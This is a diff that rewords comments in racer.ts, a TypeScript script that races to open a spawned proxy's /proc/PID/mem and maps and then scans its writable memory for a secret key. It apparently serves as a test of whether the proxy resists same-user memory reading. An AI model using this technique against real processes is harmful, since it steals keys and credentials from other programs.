@@ -1,6 +1,6 @@
-// An attacker of the same user who is there from the start: opens /proc/PID/mem and maps of a proxy in a loop from its spawn on, keeps
-// what could be opened, and looks for the key through it once the proxy serves.
-// Usage: bun racer.ts TRIES KEY SERVER_INFO_FILE ENVIRONMENT_AS_JSON BINARY [ARG…]; prints in how many tries the key was stolen.
+// An attacker of the same user: from a proxy's spawn on it opens /proc/PID/mem and maps in a loop, keeps what it could
+// open, and looks for the key through it once the proxy serves. Prints in how many tries it found the key.
+// Usage: bun racer.ts TRIES KEY SERVER_INFO_FILE ENVIRONMENT_AS_JSON BINARY [ARG…]
 
 import { spawn } from "node:child_process";
 import { closeSync, existsSync, openSync, readSync, rmSync } from "node:fs";
@@ -26,7 +26,7 @@ async function race(): Promise<boolean> {
   const child = spawn(binary, ["--server-info", info, ...args], { env, stdio: ["pipe", "ignore", "ignore"] });
   child.stdin!.end(`${key}\n`);
   const handles: Handles[] = [];
-  // Each opened pair belongs to the memory of its moment; later ones may belong to the second start's.
+  // Each opened pair shows the memory of the moment; later ones may show that of the second start.
   const end = performance.now() + 2_000;
   while (!existsSync(info) && child.exitCode === null && performance.now() < end) {
     for (let attempt = 0; attempt < 50; attempt++) tryToOpen(child.pid!, handles);
@@ -53,7 +53,7 @@ function tryToOpen(pid: number, handles: Handles[]): void {
       closeSync(old.maps);
     }
   } catch {
-    // Closed, or not there yet.
+    // Denied, or the process does not exist yet.
   }
 }
 
@@ -62,13 +62,13 @@ function holdsKey({ mem, maps }: Handles): boolean {
   const needle = Buffer.from(key, "latin1");
   const chunk = Buffer.alloc(1 << 20);
   const mappings = readAll(maps);
-  // Opened before the child had executed anything: that is still our own memory, where the key is, too.
+  // Opened before the child's execve: this is the racer's own memory, which has the key, too.
   if (mappings.includes(process.execPath)) return false;
   for (const line of mappings.split("\n")) {
     const match = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line);
     if (match === null) continue;
     const start = Number.parseInt(match[1]!, 16);
-    // What is reserved and not used is empty: the first 64 MiB of a mapping are where a heap begins.
+    // Most of a large mapping is reserved and empty; a heap begins in its first 64 MiB.
     const stop = Math.min(Number.parseInt(match[2]!, 16), start + (64 << 20));
     for (let at = start; at < stop; at += chunk.length - needle.length) {
       const got = read(mem, chunk, at, Math.min(chunk.length, stop - at));
